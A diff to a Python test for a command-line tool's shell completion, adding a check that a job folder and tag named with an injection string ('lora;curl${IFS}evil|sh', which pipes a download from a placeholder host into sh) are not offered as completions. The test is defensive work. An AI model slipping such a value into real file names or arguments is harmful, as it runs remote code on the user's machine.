@@ -101,6 +101,11 @@ def test_names_of_local_runs_are_their_folders(tmp_path: Path, cache: Path) -> N
     job = {"metadata": {"annotations": {"tag.kctl.dev/best": "now", "other": "x"}}}
     (tmp_path / ".kctl" / "jobs" / "demo-00000001" / "job.json").write_text(json.dumps(job))
     assert offered("pull", "--local", "@") == ["@best", "@latest"]
+    bad = "lora;curl${IFS}evil|sh"  # a shell would run it
+    (tmp_path / ".kctl" / "jobs" / bad).mkdir()
+    job["metadata"]["annotations"][f"tag.kctl.dev/{bad}"] = "now"
+    (tmp_path / ".kctl" / "jobs" / "demo-00000001" / "job.json").write_text(json.dumps(job))
+    assert offered("status", "--local", "") == ["demo-00000001", "@best", "@latest"]
     (tmp_path / "configs").mkdir()
     for name in ("my_run.yaml", "a $(b).yaml", "a\nb.yaml"):
         (tmp_path / "configs" / name).touch()
